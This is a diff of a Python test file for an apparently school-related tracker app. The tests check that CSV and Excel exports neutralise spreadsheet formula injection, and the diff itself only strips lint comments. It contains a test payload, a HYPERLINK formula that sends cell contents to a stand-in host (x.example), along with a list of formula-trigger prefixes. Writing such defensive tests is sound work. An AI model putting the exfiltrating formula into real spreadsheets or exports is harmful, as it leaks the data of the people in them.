@@ -20,23 +20,23 @@ LEAK = '=HYPERLINK("http://x.example/?"&B3&C3,"点此")'
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
 
-def _csv(response) -> list[list[str]]:  # noqa: ANN001
+def _csv(response) -> list[list[str]]:
     assert response.status_code == 200
     return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
 
 
-def _xlsx(response):  # noqa: ANN001, ANN202
+def _xlsx(response):
     assert response.status_code == 200
     return load_workbook(io.BytesIO(response.data)).active
 
 
-def _assert_inert_text(values) -> None:  # noqa: ANN001
+def _assert_inert_text(values) -> None:
     for value in values:
         if isinstance(value, str):
             assert value[:1] not in DANGEROUS, repr(value)
 
 
-def _assert_no_formula_cells(sheet) -> None:  # noqa: ANN001
+def _assert_no_formula_cells(sheet) -> None:
     for row in sheet.iter_rows():
         for cell in row:
             assert cell.data_type != "f", (cell.coordinate, cell.value)
@@ -44,7 +44,7 @@ def _assert_no_formula_cells(sheet) -> None:  # noqa: ANN001
                 assert cell.value[:1] not in DANGEROUS, (cell.coordinate, cell.value)
 
 
-def _poison_teacher(app, teacher, department) -> None:  # noqa: ANN001
+def _poison_teacher(app, teacher, department) -> None:
     """Give a teacher and their department names a spreadsheet would run."""
     from pdtracker.auth.models import User
     from pdtracker.org.models import Department
@@ -58,12 +58,12 @@ def _poison_teacher(app, teacher, department) -> None:  # noqa: ANN001
 
 
 def test_event_registration_exports_are_inert(
-    app,  # noqa: ANN001
-    client,  # noqa: ANN001
-    auth,  # noqa: ANN001
-    world,  # noqa: ANN001
-    make_event,  # noqa: ANN001, F811  (the events fixtures, imported above)
-    registered,  # noqa: ANN001, F811
+    app,
+    client,
+    auth,
+    world,
+    make_event,  # noqa: F811  (the events fixtures, imported above)
+    registered,  # noqa: F811
 ) -> None:
     event = make_event(title=LEAK)
     _poison_teacher(app, world["teacher1"], world["ai"])
@@ -98,7 +98,7 @@ name = { zh = '=HYPERLINK("http://x.example/","点此")', en = "-practice" }
 """
 
 
-def test_progress_exports_neutralise_headers_and_rows(app, client, auth, world) -> None:  # noqa: ANN001
+def test_progress_exports_neutralise_headers_and_rows(app, client, auth, world) -> None:
     _poison_teacher(app, world["teacher1"], world["ai"])
     auth.login("admin")
     assert (
